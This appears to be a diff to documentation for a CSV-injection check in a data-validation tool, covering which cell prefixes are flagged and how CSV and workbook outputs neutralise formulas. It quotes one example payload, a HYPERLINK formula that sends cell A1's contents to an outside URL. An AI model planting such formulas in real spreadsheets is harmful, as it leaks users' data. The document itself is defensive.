@@ -3,9 +3,9 @@ text beginning with `=`, `+`, `-`, `@`, TAB or CR (OWASP "CSV injection", CWE-12
 such as `=HYPERLINK("https://…?leak="&A1)` can send the sheet's data away or run commands.
 Phone numbers (`+33 6 12 34 56 78`) and plain numbers (`-12,5`) are not a risk and pass.
 
-The default action only flags the row; `--neutralise-formulas` (or `neutralise_formulas: true` in
-the config) switches the action to `mask`, which writes the cell with a leading apostrophe so the
-spreadsheet shows it as text. The quarantine file keeps original values.
+The default action only flags the row: the CSV outputs are made safe by their writer whatever the
+rules (`write.formulas`: a leading apostrophe, unless `--keep-formulas`), and a workbook output
+writes every such cell as a string.
 
 Params: none.
 
